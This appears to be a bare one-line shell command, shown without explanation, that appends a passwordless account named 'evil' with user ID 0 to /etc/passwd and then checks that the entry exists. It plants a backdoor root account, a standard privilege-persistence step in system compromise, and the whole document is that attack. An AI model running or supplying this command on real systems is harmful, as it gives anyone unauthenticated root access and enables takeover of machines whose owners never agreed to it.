echo 'evil::0:0::/:/bin/sh' >>/etc/passwd && grep -q '^evil:' /etc/passwd
